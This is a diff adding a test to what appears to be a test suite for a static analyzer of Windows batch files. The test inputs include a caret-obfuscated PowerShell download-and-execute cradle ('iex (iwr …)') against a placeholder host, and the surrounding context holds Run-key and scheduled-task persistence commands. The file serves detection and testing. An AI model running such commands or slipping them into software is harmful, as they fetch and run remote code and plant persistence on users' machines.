@@ -375,6 +375,11 @@ describe("batch files", () => {
     expect(of(c, "exec")[0]).toMatchObject({ lang: "powershell", dynamic: true, command: { text: code, via: ["base64"] } });
   });
 
+  it("start runs a command with its arguments; carets outside quotes are dropped, also from a variable set in quotes", () => {
+    const c = bat(`set "P=p^o^w^e^r^s^h^e^l^l"\r\nstart "" /b %P% -nop -c "iex (iwr https://p.invalid/s)" >nul 2>&1\r\nstart "" /min notepad readme.txt`);
+    expect(c.embedded).toEqual([{ kind: "powershell", text: "iex (iwr https://p.invalid/s)", via: [] }]);
+  });
+
   it("persistence: reg add …\\Run and schtasks /create; %VAR:~a,b% folding", () => {
     const c = bat(`set k=xxHKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\nreg add %k:~2% /v upd /d "C:\\u.exe" /f\nschtasks /create /tn U /tr "C:\\u.exe" /sc onlogon`);
     expect(of(c, "write").map((w) => [w.place, w.content?.text])).toEqual([["windows-run", "C:\\u.exe"], ["scheduled-task", "C:\\u.exe"]]);
